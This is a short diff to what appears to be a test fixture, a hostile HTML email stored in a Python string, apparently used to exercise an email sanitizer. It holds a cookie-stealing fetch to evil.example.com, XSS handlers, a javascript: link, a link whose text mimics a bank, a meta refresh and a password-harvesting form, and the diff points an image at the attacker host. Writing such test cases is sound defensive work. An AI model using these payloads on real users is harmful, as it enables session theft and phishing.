@@ -27,7 +27,7 @@ BODY = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.exa
 <h1>Dear customer</h1>
 <p>Everything in this mail is an attempt on whoever reads it. It should look dull.</p>
 <script>fetch("https://evil.example.com/" + document.cookie)</script>
-<img src=x onerror="alert(1)"> <svg onload="alert(2)"></svg>
+<img src="https://evil.example.com/x.png" onerror="alert(1)"> <svg onload="alert(2)"></svg>
 <p><a href="javascript:alert(3)">Claim it now</a>
  or <a href="https://evil.example.com/">https://bank.example.com/</a></p>
 <form action="https://evil.example.com/"><input name="password"><button>Log in</button></form>
